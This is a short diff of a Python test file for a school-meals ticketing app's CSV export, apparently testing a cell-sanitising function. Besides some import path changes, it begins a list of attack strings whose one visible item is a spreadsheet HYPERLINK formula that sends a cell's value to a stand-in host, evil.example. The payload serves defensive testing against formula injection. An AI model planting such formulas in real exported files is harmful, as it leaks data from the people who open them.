@@ -8,8 +8,8 @@ from datetime import date, datetime
 from eticket_desk.reports import csv_export, meal_counts
 from eticket_desk.reports.csv_export import safe_cell, write_csv_file
 from eticket_desk.reports.meal_counts import MealCounts, MealCountsData, MealDay, SchoolMeals
-from eticket_desk.services.demo_data import COMMUNE
-from eticket_desk.services.organisation import OrganisationData
+from eticket_desk.services.catalogue.organisation import OrganisationData
+from eticket_desk.services.demo.data import COMMUNE
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
